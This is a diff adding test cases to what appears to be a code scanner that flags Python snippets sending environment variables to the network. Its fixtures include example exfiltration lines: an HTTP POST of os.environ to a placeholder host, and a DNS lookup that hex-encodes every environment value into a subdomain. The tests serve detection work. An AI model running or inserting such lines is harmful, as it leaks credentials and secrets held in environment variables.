@@ -128,3 +128,50 @@ describe('what a library is told', () => {
     expect(await loud('bench.py', text)).toEqual(['CODE-ENVIRONMENT-SENT CRITICAL']);
   });
 });
+
+describe('an environment beside the network', () => {
+  const FETCH = 'build = urllib.request.urlopen("https://files.example.invalid/build.txt").read()';
+  const IMPORTS = 'import os, requests, socket, subprocess, urllib.request';
+
+  it('may be that of a program that is started', async () => {
+    const text = lines(IMPORTS, FETCH, 'env = dict(os.environ)', 'subprocess.check_call(["make"], env=env)');
+    expect(await loud('get.py', text)).toEqual([]);
+  });
+
+  it('may stand beside the machine asking for its own address', async () => {
+    const text = lines(
+      IMPORTS,
+      'for key, value in os.environ.items():',
+      '    print(key)',
+      'ip = socket.gethostbyname(socket.gethostname())',
+    );
+    expect(await loud('start.py', text)).toEqual([]);
+  });
+
+  it.each([
+    ['sent', 'requests.post("https://files.example.invalid/", json=env)', 'CRITICAL'],
+    ['kept beside a download', 'print(env)', 'HIGH'],
+  ])('may not be %s', async (_, then, severity) => {
+    const text = lines(IMPORTS, FETCH, 'env = dict(os.environ)', then);
+    expect(await loud('get.py', text)).toContain(`CODE-ENVIRONMENT-SENT ${severity}`);
+  });
+
+  it('may not be sent by who starts a program with it', async () => {
+    const text = lines(
+      IMPORTS,
+      'env = dict(os.environ)',
+      'subprocess.check_call(["make"], env=env)',
+      'requests.post("https://files.example.invalid/", json=env)',
+    );
+    expect(await loud('get.py', text)).toEqual(['CODE-ENVIRONMENT-SENT CRITICAL']);
+  });
+
+  it('may not be looked up', async () => {
+    const text = lines(
+      IMPORTS,
+      'data = "".join(os.environ.values())',
+      'socket.gethostbyname(data.encode().hex() + ".files.example.invalid")',
+    );
+    expect((await loud('start.py', text)).length).toBeGreaterThan(0);
+  });
+});
